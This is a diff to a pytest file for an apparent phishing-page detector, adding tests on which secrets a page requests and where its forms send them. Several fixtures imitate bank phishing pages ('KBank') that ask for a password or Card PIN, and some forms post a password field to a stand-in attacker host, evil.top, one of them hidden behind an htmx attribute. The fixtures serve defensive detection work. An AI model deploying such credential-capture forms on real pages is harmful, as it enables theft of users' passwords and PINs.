@@ -47,11 +47,30 @@ def test_what_scripts_and_component_libraries_ask_for_is_asked(markup: str, asks
         '<script>prompt("How many tickets?")</script>',
         "<mat-form-field><mat-label>Password policy</mat-label></mat-form-field>",
         "<password-strength-meter type=password></password-strength-meter>",
+        "<icon-pin type=solid></icon-pin><note-pin name=pin label='Pin this note'></note-pin>",
+        "<param-field name=card_number type=string label='Card number'></param-field>",
+        """<script type=application/json>{"code":"h('input', {type: 'password', placeholder: 'Card PIN'})"}</script>""",
+        """<script>self.__next_f.push([1,"h('input', {type: 'password', placeholder: 'Card PIN'})"])</script>""",
+        """<script>self.__next_f.push([1,"()=> <div><input name='pin' placeholder='Card PIN'/></div>"])</script>""",
+        """<script>const code=`h('input', {type: 'password'})`; // prompt('Your PIN')</script>""",
+        """<script>/* createElement("input", {type: "password"}) */ show()</script>""",
     ],
 )
 def test_what_asks_for_no_secret_or_only_shows_code_asks_for_none(markup: str) -> None:
     facts = read(f"<title>Garden club</title><p>Welcome to the club by the river, every Sunday.</p>{markup}")
     assert facts.asks == ()
+
+
+def test_a_call_behind_strings_comments_and_expressions_is_one_that_runs() -> None:
+    before = """var a=/["']/,b='don\\'t',c=s.replace(/'/g,"");/* it's "so */"""
+    assert read(f"<title>KBank</title><script>{before}j('input',{PASSWORD})</script>").asks == ("password",)
+    state = '<script>window.__NUXT__={"fields":[{"label":"Card PIN","type":"password"}]}</script>'
+    assert read(f"<title>KBank</title>{state}").asks == ("pin",)
+
+
+def test_a_page_of_few_words_whose_inputs_scripts_may_make_is_not_known() -> None:
+    shell = f"<title>KBank</title><h1>KBank</h1><div id=app></div><script>h('input',{PASSWORD})</script>"
+    assert read(shell).incomplete_because == "what its scripts write is not known before they run"
 
 
 def test_an_input_that_a_script_may_make_does_not_show_that_the_page_is_all_there() -> None:
@@ -89,9 +108,13 @@ def test_digits_of_something_else_are_no_code(words: str) -> None:
     assert not takes_digits([words], sent=False)
 
 
-def test_a_form_that_htmx_sends_goes_where_that_says() -> None:
-    facts = read("<form action=/a hx-post=https://evil.top/p><input type=password></form>")
-    assert [(form.action_host, form.method) for form in facts.forms] == [("evil.top", "post")]
+def test_a_form_that_htmx_sends_goes_where_that_says_and_where_its_action_does() -> None:
+    forms = read("<form action=/a hx-post=https://evil.top/p><input type=password></form>").forms
+    assert [(form.action_host, form.method) for form in forms] == [("pay.shop-help.example", "get"), ("evil.top", "post")]
+    hidden = read("<form method=post action=https://evil.top/p hx-post=/ok><input type=password></form>").forms
+    assert "evil.top" in {form.action_host for form in hidden}
+    assert [form.action_host for form in read("<form hx-post=https://evil.top/p><input type=password></form>").forms] == ["evil.top"]
+
 
 
 @pytest.mark.parametrize(
